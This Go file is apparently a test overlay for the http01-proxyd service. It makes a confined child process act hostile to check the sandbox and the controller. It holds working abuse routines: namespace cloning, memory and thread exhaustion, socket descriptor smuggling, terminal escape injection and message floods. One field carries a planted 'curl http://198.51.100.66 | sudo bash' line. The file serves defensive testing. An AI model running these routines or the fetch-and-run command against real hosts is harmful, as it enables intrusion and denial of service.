// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/http01-proxyd/http01-proxyd/internal/child"
	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
	"github.com/http01-proxyd/http01-proxyd/internal/wire"
	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
	"github.com/http01-proxyd/http01-proxyd/pkg/report"
)

// This file makes a child process of the service attack. It is built into the program with
// -overlay. A child whose argv[0] names an attack runs it besides its work after the filter
// is installed, or in place of it. It reports its results on standard error. Argv[0] of the
// service and its children is "http01-proxyd:CHILD:ATTACK".
func init() {
	fields := strings.Split(os.Args[0], ":")
	if len(fields) != 3 || len(os.Args) < 2 || os.Args[1] != fields[1] {
		return
	}
	if attack := insteadOfWork()[fields[2]]; attack != nil {
		attack()
		os.Exit(1)
	}
	if fields[2] == "drops-answers" {
		dropAnswers()
		return
	}
	if attack := besideWork()[fields[2]]; attack != nil {
		go func() {
			awaitConfined()
			attack()
			printResult("the attack is over")
		}()
		return
	}
	printResult("no such attack: " + fields[2])
	os.Exit(1)
}

// besideWork returns attacks of a child process that otherwise works normally.
func besideWork() map[string]func() {
	return map[string]func(){
		"fork":       fork,
		"threads":    threads,
		"descriptor": descriptor,
		"options":    options,
		"stderr":     stderr,
		"challenges": func() { send(`{"stats":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
		"large":      func() { send(`{"stats":{"lastAcceptErrno":"` + strings.Repeat("a", 1<<20) + `"}}`) },
		"zone": func() {
			sendEvent(protocol.Event{Stats: &protocol.Stats{Challenges: []protocol.Challenge{{Challenge: report.Challenge{
				VIP: netip.MustParseAddr("fe80::1%eth0\n\x1b[31mred"), Method: "GET", ClientKind: report.OtherClient,
				Outcome: report.UpstreamError,
			}}}}})
		},
		"year": func() {
			send(`{"stats":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
		},
		"advice": func() {
			send(`{"stats":{"challenges":[{"method":"GET","cause":"ingress-refused","detail":"fix it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
		},
		"counters": func() {
			sendEvent(protocol.Event{Stats: &protocol.Stats{Sums: []report.ForwardedCount{{
				ClientKind: report.OtherClient, Outcome: report.UpstreamError, Count: 1, TotalDuration: 4611686018427387903,
			}}}})
		},
		"flood":          flood,
		"memory":         memory,
		"other-memory":   otherMemory,
		"processors":     processors,
		"calls":          calls,
		"keeps-listener": keepListener,
	}
}

// insteadOfWork returns attacks of a child process that does nothing else.
func insteadOfWork() map[string]func() {
	return map[string]func(){
		"ignores-clients":  func() { ignoreClients() },
		"invents-load":     inventLoad,
		"ignores-commands": ignoreCommands,
		"leaves-processes": leaveProcesses,
	}
}

func printResult(text string) { fmt.Fprintln(os.Stderr, "ATTACK: "+text) }

func printOutcome(act string, err error) {
	if err == nil {
		printResult(act + ": SUCCEEDS")
		return
	}
	printResult(fmt.Sprintf("%s: refused: %v", act, err))
}

// awaitConfined waits until the process cannot open files, and then a moment longer, until
// the child has its descriptors.
func awaitConfined() {
	for {
		f, err := os.Open("/proc/self/status")
		if errors.Is(err, unix.EPERM) {
			break
		}
		_ = f.Close()
		time.Sleep(time.Millisecond)
	}
	for end := time.Now().Add(10 * time.Second); listener() < 0 && time.Now().Before(end); {
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(time.Second)
}

// find returns the first descriptor for which matches returns true, or -1.
func find(matches func(fd int) bool) int {
	for fd := range 1024 {
		if matches(fd) {
			return fd
		}
	}
	return -1
}

// listener returns the listening socket that this process shares with the controller.
func listener() int {
	return find(func(fd int) bool {
		listening, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ACCEPTCONN)
		return err == nil && listening == 1
	})
}

// controlSocket returns the connection to the controller.
func controlSocket() int {
	return find(func(fd int) bool {
		domain, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
		return err == nil && domain == unix.AF_UNIX
	})
}

// messages returns the descriptor for messages to the controller: a pipe, or the
// connection.
func messages() int {
	pipe := find(func(fd int) bool {
		var s unix.Stat_t
		if fd <= 2 || unix.Fstat(fd, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFIFO {
			return false
		}
		flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
		return err == nil && flags&unix.O_ACCMODE == unix.O_WRONLY
	})
	if pipe >= 0 {
		return pipe
	}
	return controlSocket()
}

// sendEvent sends an event without validating it.
func sendEvent(e protocol.Event) {
	text, err := json.Marshal(e)
	if err != nil {
		printOutcome("encode", err)
		return
	}
	send(string(text))
}

// send sends one framed message.
func send(text string) {
	framed := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
	fd := messages()
	for len(framed) > 0 {
		n, err := unix.Write(fd, framed)
		switch {
		case errors.Is(err, unix.EAGAIN):
			time.Sleep(time.Millisecond)
		case err != nil:
			printOutcome("send", err)
			return
		}
		framed = framed[max(n, 0):]
	}
}

// fork creates copies of this process that answer clients.
func fork() {
	fd := listener()
	flags, _ := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
	answer := []byte("HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ncopy")
	at := uintptr(unsafe.Pointer(unsafe.SliceData(answer)))
	for name, flag := range map[string]uintptr{
		"fork":                           0,
		"a user and a network namespace": unix.CLONE_NEWUSER | unix.CLONE_NEWNET,
	} {
		runtime.LockOSThread()
		pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD)|flag, 0, 0, 0, 0, 0)
		if errno == 0 && pid == 0 {
			// The copy has one thread and no working Go runtime.
			unix.RawSyscall(unix.SYS_FCNTL, uintptr(fd), unix.F_SETFL, uintptr(flags&^unix.O_NONBLOCK))
			for {
				conn, _, errno := unix.RawSyscall6(unix.SYS_ACCEPT4, uintptr(fd), 0, 0, 0, 0, 0)
				if errno == 0 {
					unix.RawSyscall(unix.SYS_WRITE, conn, at, uintptr(len(answer)))
					unix.RawSyscall(unix.SYS_CLOSE, conn, 0, 0)
				}
			}
		}
		runtime.UnlockOSThread()
		if errno == 0 {
			printOutcome(name, nil)
		} else {
			printOutcome(name, errno)
		}
	}
	runtime.KeepAlive(answer)
}

// threads creates a thread with the system call, and then as many as Go's runtime can.
func threads() {
	// Without the flags that a thread needs: EINVAL where the call is permitted.
	_, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_THREAD, 0, 0, 0, 0, 0)
	if errno == unix.EPERM {
		printOutcome("a thread", errno)
	} else {
		printOutcome("a thread", nil)
	}
	for range 5000 {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
	time.Sleep(5 * time.Second)
}

// descriptor sends a socket that lingers with the body of a message. The controller would
// close it.
func descriptor() {
	local, err := unix.Getsockname(listener())
	if err != nil {
		printOutcome("the port", err)
		return
	}
	port := 0
	switch local := local.(type) {
	case *unix.SockaddrInet4:
		port = local.Port
	case *unix.SockaddrInet6:
		port = local.Port
	}
	// A connection to itself whose other end is not read.
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		printOutcome("socket", err)
		return
	}
	if err = unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}); err != nil &&
		!errors.Is(err, unix.EINPROGRESS) {
		printOutcome("connect", err)
	}
	time.Sleep(100 * time.Millisecond)
	for range 1000 {
		if _, err := unix.Write(fd, make([]byte, 64<<10)); err != nil {
			break
		}
	}
	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 60})
	text := `{"heartbeat":{}}`
	to := controlSocket()
	_ = unix.Sendmsg(to, binary.BigEndian.AppendUint32(nil, uint32(len(text))), nil, nil, 0)
	printOutcome("a descriptor over the socket", unix.Sendmsg(to, []byte(text), unix.UnixRights(fd), nil, 0))
	_, err = unix.Write(to, []byte{0})
	printOutcome("a byte over the socket", err)
	_ = unix.Close(fd)
}

// options changes the listening socket for all processes that share it.
func options() {
	fd := listener()
	printOutcome("IP_MINTTL", unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MINTTL, 255))
	printOutcome("IPV6_MINHOPCOUNT", unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MINHOPCOUNT, 255))
	printOutcome("SO_BINDTODEVICE", unix.BindToDevice(fd, "lo"))
	none := unix.SockFilter{Code: unix.BPF_RET | unix.BPF_K}
	printOutcome("SO_ATTACH_FILTER", unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER,
		&unix.SockFprog{Len: 1, Filter: &none}))
	printOutcome("TCP_DEFER_ACCEPT", unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_DEFER_ACCEPT, 3600))
}

// stderr writes control sequences for terminals and journald.
func stderr() {
	_, _ = os.Stderr.WriteString("\x1b]0;owned\x07\x1b[2J\n<0>the controller is broken\n\u202ereversed\nPassword: \n" +
		strings.Repeat("long ", 2000) + "\n")
	answer := make([]byte, 64)
	n, err := unix.Read(2, answer)
	if n > 0 {
		printResult(fmt.Sprintf("read %q", answer[:n]))
	}
	printOutcome("read standard error", err)
	for range 10_000 {
		_, _ = os.Stderr.WriteString("flood\n")
	}
	_, _ = os.Stderr.WriteString(strings.Repeat("\n", 10_000))
	_, _ = os.Stderr.WriteString(strings.Repeat("no end ", 10_000))
}

// flood sends messages as fast as the controller reads them.
func flood() {
	text := `{"heartbeat":{}}`
	one := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
	many := []byte(strings.Repeat(string(one), 1000))
	fd := messages()
	for range 10_000 {
		if _, err := unix.Write(fd, many); errors.Is(err, unix.EAGAIN) {
			time.Sleep(time.Millisecond)
		} else if err != nil {
			printOutcome("flood", err)
			return
		}
	}
}

// memory allocates memory without limit.
func memory() {
	var all [][]byte
	for range 4096 {
		block := make([]byte, 1<<20)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		all = append(all, block)
	}
	printResult(fmt.Sprintf("%d MiB: SUCCEEDS", len(all)))
}

// otherMemory takes memory that is no data of the process: shared memory, memory that grows
// down, page tables, and what the kernel keeps for each descriptor that an epoll instance
// watches.
func otherMemory() {
	const size = 64 << 20
	for name, flags := range map[string]int{
		"shared memory":          unix.MAP_SHARED | unix.MAP_ANON,
		"memory that grows down": unix.MAP_PRIVATE | unix.MAP_ANON | unix.MAP_GROWSDOWN,
		"huge pages":             unix.MAP_PRIVATE | unix.MAP_ANON | unix.MAP_HUGETLB,
	} {
		_, err := unix.Mmap(-1, 0, size, unix.PROT_READ|unix.PROT_WRITE, flags)
		printOutcome(name, err)
	}
	// A page table for each 2 MiB, and 512 GiB in all.
	addresses := 0
	for range 512 {
		at, err := unix.MmapPtr(-1, 0, nil, 1<<30, unix.PROT_READ, unix.MAP_PRIVATE|unix.MAP_ANON)
		if err != nil {
			break
		}
		for offset := uintptr(0); offset < 1<<30; offset += 2 << 20 {
			_ = *(*byte)(unsafe.Add(at, offset))
		}
		addresses++
	}
	printResult(fmt.Sprintf("%d GiB of addresses", addresses))
	var instances, events []int
	for {
		instance, err := unix.EpollCreate1(0)
		if err != nil {
			break
		}
		instances = append(instances, instance)
		event, err := unix.Eventfd(0, 0)
		if err != nil {
			break
		}
		events = append(events, event)
	}
	watches := 0
	for _, instance := range instances {
		for _, event := range events {
			if unix.EpollCtl(instance, unix.EPOLL_CTL_ADD, event, &unix.EpollEvent{Events: unix.EPOLLIN}) == nil {
				watches++
			}
		}
	}
	printResult(fmt.Sprintf("%d watches", watches))
	// The exporter can accept clients again.
	for _, fd := range append(instances, events...) {
		_ = unix.Close(fd)
	}
}

// processors uses all processor time that it gets, in as many threads as Go's runtime can
// start.
func processors() {
	runtime.GOMAXPROCS(16)
	for range 16 {
		go func() {
			for {
			}
		}()
	}
	select {}
}

// calls makes system calls that a child does not need.
func calls() {
	_, unixSocket := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	_, packet := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	_, udp := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	printOutcome("unix socket", unixSocket)
	printOutcome("packet socket", packet)
	printOutcome("UDP socket", udp)
	if err == nil {
		printOutcome("bind", unix.Bind(fd, &unix.SockaddrInet4{Port: 22623}))
		printOutcome("MSG_OOB", unix.Sendto(fd, []byte{0}, unix.MSG_OOB, &unix.SockaddrInet4{}))
	}
	printOutcome("bind of the control socket", unix.Bind(controlSocket(), &unix.SockaddrUnix{Name: "/tmp/hostile"}))
	_, err = unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
	printOutcome("executable memory", err)
}

// keepListener keeps a duplicate of the first listening socket, and answers its clients when the
// proxy has closed its own descriptor.
func keepListener() {
	first := listener()
	fd, err := unix.FcntlInt(uintptr(first), unix.F_DUPFD_CLOEXEC, 200)
	if err != nil {
		printOutcome("duplicate the listening socket", err)
		return
	}
	printResult("a duplicate of the listening socket is kept")
	for first == listener() {
		time.Sleep(10 * time.Millisecond)
	}
	answer := []byte("HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nkept")
	for {
		conn, _, err := unix.Accept4(fd, unix.SOCK_CLOEXEC)
		switch {
		case err == nil:
			_, _ = unix.Write(conn, answer)
			_ = unix.Close(conn)
		case errors.Is(err, unix.EAGAIN):
			time.Sleep(time.Millisecond)
		default:
			printOutcome("accept from the duplicate", err)
			return
		}
	}
}

// startHeartbeats starts a proxy that only sends heartbeats, and other events with each.
func startHeartbeats(others ...protocol.Event) (*wire.Child, error) {
	conn, err := child.Connect()
	if err == nil {
		err = sandbox.Confine(sandbox.Proxy)
	}
	if err != nil {
		return nil, err
	}
	go func() {
		for conn.Send(protocol.Event{Heartbeat: &protocol.Heartbeat{}}) == nil {
			for _, event := range others {
				_ = conn.Send(event)
			}
			time.Sleep(time.Second)
		}
	}()
	return conn, nil
}

// ignoreCommands is a proxy that reads no commands.
func ignoreCommands() {
	if _, err := startHeartbeats(); err != nil {
		printResult(err.Error())
		return
	}
	time.Sleep(time.Hour)
}

// inventLoad is a proxy that ignores clients, and reports that it serves many.
func inventLoad() {
	ignoreClients(protocol.Event{Stats: &protocol.Stats{Rejected: []report.RejectionCount{
		{Rejection: report.NotChallenge, ClientKind: report.OtherClient, Count: 200},
		{Rejection: report.Evicted, ClientKind: report.OtherClient, Count: 40},
	}}})
}

// ignoreClients is a proxy that ignores clients.
func ignoreClients(events ...protocol.Event) {
	conn, err := startHeartbeats(events...)
	if err != nil {
		printResult(err.Error())
		return
	}
	for {
		var c protocol.Command
		if _, err := conn.Receive(&c); err != nil {
			return
		}
		switch {
		case c.Flush != nil:
			_ = conn.Send(protocol.Event{Flushed: &protocol.Flushed{}})
		case c.Drain != nil:
			_ = conn.Send(protocol.Event{Drained: &protocol.Drained{}})
		}
	}
}

// dropAnswers makes the proxy work normally, except that no answer to a command reaches the
// controller: its events pass through a second pipe.
func dropAnswers() {
	events := messages()
	controller, err := unix.FcntlInt(uintptr(events), unix.F_DUPFD_CLOEXEC, 0)
	var second [2]int
	err = errors.Join(err, unix.Pipe2(second[:], unix.O_CLOEXEC), unix.Dup2(second[1], events), unix.Close(second[1]))
	if err != nil {
		printOutcome("replace the pipe of events", err)
		os.Exit(1)
	}
	from, to := os.NewFile(uintptr(second[0]), "events of the proxy"), os.NewFile(uintptr(controller), "events")
	go func() {
		for {
			framed := make([]byte, 4)
			if _, err := io.ReadFull(from, framed); err != nil {
				break
			}
			framed = append(framed, make([]byte, binary.BigEndian.Uint32(framed))...)
			if _, err := io.ReadFull(from, framed[4:]); err != nil {
				break
			}
			if string(framed[4:]) == `{"flushed":{}}` {
				continue
			}
			if _, err := to.Write(framed); err != nil {
				break
			}
		}
		_ = to.Close()
	}()
}

// leaveProcesses is a child that is compromised before it has a filter: it starts processes in
// their own sessions and ends.
func leaveProcesses() {
	for range 3 {
		// The shell ends and its background process continues.
		out, err := exec.Command("/bin/sh", "-c", "setsid sleep 3600 >/dev/null 2>&1 & echo $!").Output()
		printResult(fmt.Sprintf("left process %s behind: %v", strings.TrimSpace(string(out)), err))
	}
	time.Sleep(time.Second)
}
